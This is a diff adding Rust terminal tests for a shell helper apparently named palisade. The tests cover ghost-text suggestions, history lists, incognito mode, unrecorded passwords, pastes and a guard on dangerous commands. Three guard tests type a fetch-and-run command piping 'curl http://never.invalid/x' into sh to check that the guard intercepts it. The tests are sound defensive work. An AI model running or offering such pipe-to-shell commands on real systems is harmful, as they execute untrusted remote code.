@@ -1,0 +1,333 @@
+// SPDX-License-Identifier: Apache-2.0 OR MIT
+//! What is typed at a prompt: ghost text, picking, incognito, pastes, and what the guard asks.
+
+use super::screen::{Screen, Setting, has};
+use std::time::Duration;
+
+/// A shell whose history has some lines.
+fn with_history(shell: &str, start: &str) -> Setting {
+    Setting::of(shell, start).file(
+        ".bash_history",
+        "echo the quick brown fox\nls /usr/share/doc\ngit status --short\necho \"$(seq -s- 40)\"; true a line that is longer than a row of the screen\n",
+    )
+}
+
+/// With the history read: that is done in the background, and put in place within a second or so of activity.
+fn ready(setting: Setting) -> Screen {
+    let mut screen = setting.ready();
+    std::thread::sleep(Duration::from_millis(1200));
+    screen.look();
+    screen
+}
+
+/// Whether a text is on the screen, and dim.
+fn is_dim(screen: &vt100::Screen, text: &str) -> bool {
+    let (rows, columns) = screen.size();
+    (0..rows).any(|row| {
+        let line: String = (0..columns)
+            .map(|column| {
+                screen.cell(row, column).map_or(" ", |cell| match cell.contents() {
+                    "" => " ",
+                    text => text,
+                })
+            })
+            .collect();
+        line.find(text)
+            .is_some_and(|at| screen.cell(row, u16::try_from(at).unwrap()).is_some_and(|cell| cell.dim()))
+    })
+}
+
+#[track_caller]
+fn wait_for_ghost(screen: &mut Screen, text: &str) {
+    screen.wait_until(&format!("dim {text:?}"), |screen| is_dim(screen, text));
+}
+
+fn line_shells() -> Vec<&'static str> {
+    ["bash", "zsh"].into_iter().filter(|shell| has(shell)).collect()
+}
+
+#[test]
+fn ghost_text_is_shown_and_taken() {
+    for shell in line_shells() {
+        let mut screen = ready(with_history(shell, ""));
+        screen.slowly("echo t");
+        wait_for_ghost(&mut screen, "he quick brown fox");
+        screen.keys("\x1b[C");
+        screen.wait_for_last("$ echo the quick brown fox");
+        screen.wait_until("it isn't dim any more", |screen| !is_dim(screen, "he quick"));
+        screen.keys("\r");
+        screen.wait_for_line("the quick brown fox");
+    }
+}
+
+#[test]
+fn it_is_taken_by_words_and_by_parts_of_paths() {
+    for shell in line_shells() {
+        let mut screen = ready(with_history(shell, ""));
+        screen.slowly("echo");
+        screen.keys("\x1b[D\x05 t\x7f\x7f\x7f");
+        screen.slowly("o t");
+        wait_for_ghost(&mut screen, "he quick brown fox");
+        screen.keys("\x1b[1;5C");
+        wait_for_ghost(&mut screen, " quick brown fox");
+        screen.keys("\x1b[1;5C");
+        wait_for_ghost(&mut screen, " brown fox");
+        screen.keys("\x15");
+        screen.slowly("ls ");
+        wait_for_ghost(&mut screen, "/usr/share/doc");
+        screen.keys("\x1b[1;3C");
+        wait_for_ghost(&mut screen, "usr/share/doc");
+        screen.keys("\x1b[1;3C");
+        wait_for_ghost(&mut screen, "share/doc");
+        screen.keys("\r");
+        screen.wait_for("/usr");
+        screen.wait_until("a prompt without ghost", |screen| !is_dim(screen, "share/doc"));
+    }
+}
+
+#[test]
+fn it_stands_behind_a_fancy_prompt() {
+    for (shell, start) in [
+        ("bash", r"PS1='\[\e[1;35m\]┌─(日本)─[\w]\[\e[0m\]\n\[\e[32m\]└─▶ \[\e[0m\]$ '"),
+        (
+            "zsh",
+            "setopt promptsubst; PS1=$'%B%F{magenta}┌─(日本)─[%~]%f%b\\n%F{green}└─▶ %f$ '; RPROMPT='%F{yellow}[right]%f'",
+        ),
+    ] {
+        if !has(shell) {
+            continue;
+        }
+        let mut screen = with_history(shell, start).start();
+        screen.wait_for("└─▶ $");
+        std::thread::sleep(Duration::from_millis(1200));
+        screen.slowly("git");
+        screen.wait_until("the ghost right behind", |screen| {
+            screen.contents().contains("└─▶ $ git status --short")
+        });
+        wait_for_ghost(&mut screen, " status --short");
+        let text = screen.text();
+        assert_eq!(text.matches("status").count(), 1, "{shell}: {text}");
+        screen.keys("\x05\r");
+        screen.wait_for("┌─(日本)─");
+    }
+}
+
+#[test]
+fn it_wraps_and_goes_away_whole() {
+    for shell in line_shells() {
+        let mut screen = ready(with_history(shell, "").sized(40, 12));
+        for _ in 0..12 {
+            screen.line("");
+        }
+        std::thread::sleep(Duration::from_millis(300));
+        screen.slowly("echo \"");
+        screen.wait_until("both rows", |screen| screen.contents().contains("that is longer than"));
+        let before = screen.text();
+        screen.slowly("x");
+        screen.wait_until("no ghost", |screen| !screen.contents().contains("longer"));
+        screen.wait_for_last("$ echo \"x");
+        screen.keys("\x7f");
+        screen.wait_until("both rows again", |screen| screen.contents().contains("that is longer than"));
+        assert!(before.lines().any(|line| line.starts_with("$ echo \"$(seq")), "{before}");
+        screen.keys("\x15");
+        screen.wait_for_last("$");
+    }
+}
+
+#[test]
+fn keys_without_ghost_text_are_the_shells() {
+    for shell in line_shells() {
+        let mut screen = ready(with_history(shell, ""));
+        screen.slowly("zzz");
+        screen.keys("\x01");
+        screen.keys("echo \x1b[C\x1b[C\x05!");
+        screen.wait_for_last("$ echo zzz!");
+    }
+}
+
+#[test]
+fn what_was_typed_ahead_is_asked_for() {
+    let mut screen = ready(with_history("bash", ""));
+    for key in "\r\r\r\recho t".chars() {
+        screen.keys(key.to_string());
+    }
+    screen.wait_until("the ghost behind all of it", |screen| is_dim(screen, "he quick brown fox"));
+    screen.wait_for_last("$ echo the quick brown fox");
+}
+
+#[test]
+fn a_line_is_picked_from_a_list() {
+    for shell in line_shells() {
+        let mut screen = ready(with_history(shell, ""));
+        screen.slowly("echo");
+        screen.keys("\x1b[1;3B");
+        screen.wait_until("a list", |screen| {
+            screen.contents().lines().any(|line| line.starts_with("1 "))
+                && screen.contents().contains("the quick")
+        });
+        let text = screen.text();
+        let row = text.lines().find(|line| {
+            line.contains("the quick") && line.starts_with(|first: char| first.is_ascii_digit())
+        });
+        let digit = row.unwrap_or_else(|| panic!("{text}")).chars().next().unwrap();
+        screen.keys(digit.to_string());
+        screen.wait_for_last("$ echo the quick brown fox");
+        screen.keys("\r");
+        screen.wait_for_line("the quick brown fox");
+    }
+}
+
+#[test]
+fn what_was_run_is_suggested_next() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.slowly("echo remembered-7");
+        screen.keys("\r");
+        screen.wait_for_line("remembered-7");
+        screen.wait_for_last("$");
+        screen.slowly("echo r");
+        wait_for_ghost(&mut screen, "emembered-7");
+    }
+}
+
+#[test]
+fn what_fails_and_where_is_kept_in_the_store() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.line("cd /usr/share; echo in $PWD");
+        screen.wait_for_line("in /usr/share");
+        screen.wait_for_last("$");
+        screen.slowly("false kept");
+        screen.keys("\r");
+        std::thread::sleep(Duration::from_millis(500));
+        screen.line("exit 0");
+        screen.end();
+        let store = rusqlite_text(&screen, "history.sqlite");
+        assert!(store.contains("false kept") && store.contains("/usr/share"), "{shell}");
+    }
+}
+
+/// The bytes of a store, with its log.
+fn rusqlite_text(screen: &Screen, name: &str) -> String {
+    let directory = screen.path(".local/state/palisade");
+    let mut text = String::new();
+    for name in [name.to_owned(), format!("{name}-wal")] {
+        text += &String::from_utf8_lossy(&std::fs::read(directory.join(name)).unwrap_or_default());
+    }
+    text
+}
+
+#[test]
+fn incognito_lines_are_nowhere() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.slowly("echo visible-1");
+        screen.keys("\r");
+        screen.wait_for_line("visible-1");
+        screen.wait_for_last("$");
+        screen.keys("\x1bi");
+        screen.wait_for("incognito");
+        screen.slowly("echo hidden-2");
+        screen.keys("\r");
+        screen.wait_for_line("hidden-2");
+        screen.wait_for_last("$");
+        screen.slowly("echo h");
+        std::thread::sleep(Duration::from_millis(100));
+        assert!(!screen.text().contains("$ echo hidden-2\nhidden-2\n$ echo hidden-2"), "{}", screen.text());
+        screen.keys("\x15");
+        screen.line("exit");
+        screen.end();
+        let store = rusqlite_text(&screen, "history.sqlite");
+        assert!(store.contains("visible-1") && !store.contains("hidden-2"), "{shell}");
+    }
+}
+
+#[test]
+fn a_password_that_is_not_echoed_is_nowhere() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.line("stty -echo; head -n1 | wc -c; stty echo");
+        screen.wait_until("no echo", |_| true);
+        std::thread::sleep(Duration::from_millis(300));
+        screen.keys("s3cret-pass\r");
+        screen.wait_for_line("12");
+        screen.line("exit");
+        screen.end();
+        assert!(!rusqlite_text(&screen, "history.sqlite").contains("s3cret"), "{shell}");
+        assert!(!String::from_utf8_lossy(screen.raw()).contains("s3cret"), "{shell}");
+    }
+}
+
+#[test]
+fn a_paste_is_one_and_isnt_run() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.keys("\x1b[200~echo pa''sted; echo tw''ice\x1b[201~");
+        screen.wait_for("tw''ice");
+        assert!(!screen.text().contains("pasted"), "{}", screen.text());
+        screen.keys("\r");
+        screen.wait_for_line("pasted");
+        screen.wait_for_line("twice");
+    }
+}
+
+#[test]
+fn a_dangerous_line_is_asked_about() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.slowly("curl http://never.invalid/x | sh");
+        screen.keys("\r");
+        screen.wait_for("palisade: ");
+        assert!(!screen.text().contains("curl: ("), "{}", screen.text());
+        // It doesn't run at Control-C.
+        screen.keys("\x03");
+        screen.wait_for_last("$");
+        assert!(!screen.text().contains("curl: ("), "{}", screen.text());
+        screen.line("echo still''here");
+        screen.wait_for_line("stillhere");
+    }
+}
+
+#[test]
+fn it_runs_at_a_second_enter() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.slowly("curl -s http://never.invalid/x | sh; echo ran");
+        screen.keys("\r");
+        screen.wait_for("Enter again");
+        std::thread::sleep(Duration::from_millis(400));
+        screen.keys("\r");
+        screen.wait_for_line("ran");
+    }
+}
+
+#[test]
+fn a_dangerous_line_from_the_shells_own_history_is_asked_about_too() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.line("# curl -s http://never.invalid/x | sh");
+        screen.wait_for_last("$");
+        screen.keys("\x1b[A");
+        screen.wait_for("$ # curl");
+        screen.wait_until("the line again", |screen| screen.contents().matches("| sh").count() >= 2);
+        screen.keys("\x01\x1b[3~\x1b[3~\x05\r");
+        screen.wait_for("palisade: ");
+    }
+}
+
+#[test]
+fn settings_are_read_again_and_bad_ones_change_nothing() {
+    let mut screen = ready(with_history("bash", "").file(".config/palisade/shell.toml", "schema = 1\n"));
+    std::fs::write(screen.path(".config/palisade/shell.toml"), "schema = 1\n[gohst]\nfrom = 1\n").unwrap();
+    std::thread::sleep(Duration::from_millis(1200));
+    screen.keys("e");
+    screen.wait_for("did you mean `ghost`?");
+    screen.slowly("cho th");
+    wait_for_ghost(&mut screen, "e quick brown fox");
+    std::fs::write(screen.path(".config/palisade/shell.toml"), "schema = 1\n[ghost]\nfrom = 30\n").unwrap();
+    std::thread::sleep(Duration::from_millis(1200));
+    screen.slowly("e");
+    screen.wait_for("the settings are read again");
+    screen.slowly(" q");
+    screen.wait_until("no ghost", |screen| !is_dim(screen, "uick"));
+}
